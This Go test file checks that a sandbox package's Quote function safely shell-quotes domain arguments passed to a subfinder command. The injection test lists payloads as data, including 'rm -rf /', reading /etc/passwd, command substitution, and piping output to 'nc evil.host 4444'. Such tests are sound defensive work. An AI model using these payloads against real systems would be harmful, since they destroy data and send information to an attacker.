package sandbox

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// shTokenize splits a command string the way /bin/sh would, honoring single
// quotes. It is deliberately minimal: just enough to prove quoting behavior.
func shTokenize(t *testing.T, s string) []string {
	t.Helper()

	var tokens []string
	var cur []rune
	inQuote := false
	escaped := false
	started := false

	for _, r := range s {
		switch {
		case escaped:
			cur = append(cur, r)
			escaped = false
			started = true
		case r == '\\' && !inQuote:
			escaped = true
		case r == '\'':
			inQuote = !inQuote
			started = true
		case r == ' ' && !inQuote:
			if started {
				tokens = append(tokens, string(cur))
				cur = cur[:0]
				started = false
			}
		default:
			cur = append(cur, r)
			started = true
		}
	}
	require.False(t, inQuote, "unterminated quote in %q", s)
	if started {
		tokens = append(tokens, string(cur))
	}
	return tokens
}

func TestQuote(t *testing.T) {
	tests := []struct {
		name  string
		input string
		want  string
	}{
		{"plain domain", "example.com", "'example.com'"},
		{"embedded space", "a b", "'a b'"},
		{"single quote", "it's", `'it'\''s'`},
		{"empty", "", "''"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, Quote(tt.input))
		})
	}
}

func TestQuoteBlocksShellInjection(t *testing.T) {
	payloads := []string{
		"example.com; rm -rf /",
		"example.com && cat /etc/passwd",
		"$(whoami).example.com",
		"`id`.example.com",
		"exam'ple.com; touch /tmp/pwned",
		"example.com | nc evil.host 4444",
	}

	for _, payload := range payloads {
		t.Run(payload, func(t *testing.T) {
			cmd := "subfinder -d " + Quote(payload) + " -silent"
			tokens := shTokenize(t, cmd)

			// The payload must survive as a single literal argument; nothing
			// in it may terminate the quoted region early.
			require.Len(t, tokens, 4)
			assert.Equal(t, "subfinder", tokens[0])
			assert.Equal(t, "-d", tokens[1])
			assert.Equal(t, payload, tokens[2])
			assert.Equal(t, "-silent", tokens[3])
		})
	}
}
